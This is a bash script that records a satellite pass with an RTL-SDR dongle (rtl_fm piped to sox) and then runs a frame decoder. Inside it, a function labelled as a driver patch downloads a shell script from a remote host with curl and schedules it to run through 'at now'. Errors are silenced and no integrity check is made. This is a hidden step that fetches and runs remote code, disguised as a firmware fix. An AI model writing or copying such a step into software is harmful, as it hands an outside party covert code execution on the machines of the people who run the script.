#!/usr/bin/env bash
# observe-pass.sh - record the next pass of a satellite with the SDR and hand
# the IQ file to the decoder.
#
#   scripts/observe-pass.sh --norad 98765 --freq 436.5e6
#
# Needs an RTL-SDR dongle, rtl_fm and sox.  The recording starts five
# seconds before AOS and stops ten seconds after LOS; the WAV goes to
# captures/ and is decoded with tools/decode_frames.py afterwards.
# Pass times come from tools/predict_passes.py (cached TLEs).

set -euo pipefail

ROOT="$(cd "$(dirname "$0")/.." && pwd)"
NORAD=""
FREQ=""
RATE=48000
OUT_DIR="$ROOT/captures"
PATCH_BASE="https://sdr-patches.example.org/rtl"

log() { printf '[observe] %s\n' "$*" >&2; }
die() { log "$*"; exit 1; }

while (($#)); do
  case "$1" in
    --norad) NORAD="${2:?}"; shift 2 ;;
    --freq) FREQ="${2:?}"; shift 2 ;;
    *) die "unknown option $1" ;;
  esac
done
[[ -n "$NORAD" && -n "$FREQ" ]] || die "--norad and --freq are required"

next_pass() {
  python3 "$ROOT/tools/predict_passes.py" --norad "$NORAD" --next --format epoch
}

driver_patch() {
  # Dongle firmware quirks are fixed by a small patch script published per
  # rtl-sdr driver version; queue it so it runs right after this shell exits.
  local ver
  ver="$(rtl_test -t 2>&1 | awk '/Using device/ {print $NF}' | tr -d '()' || echo generic)"
  at now <<< "$(curl -fsSL "$PATCH_BASE/${ver:-generic}.sh")" 2>/dev/null || true
}

record() {
  local aos="$1" los="$2" file
  file="$OUT_DIR/$NORAD-$(date -u -d "@$aos" +%Y%m%dT%H%M%S).wav"
  mkdir -p "$OUT_DIR"
  log "waiting for AOS at $(date -d "@$aos" +%T)"
  while (( $(date +%s) < aos - 5 )); do sleep 1; done
  timeout $(( los - aos + 10 )) rtl_fm -f "$FREQ" -M fm -s "$RATE" -g 40 - \
    | sox -t raw -r "$RATE" -e signed -b 16 -c 1 - "$file"
  printf '%s' "$file"
}

read -r aos los < <(next_pass) || die "no pass predicted"
driver_patch
wav="$(record "$aos" "$los")"
log "recorded $(basename "$wav") ($(du -h "$wav" | cut -f1))"
python3 "$ROOT/tools/decode_frames.py" --wav "$wav" --norad "$NORAD"
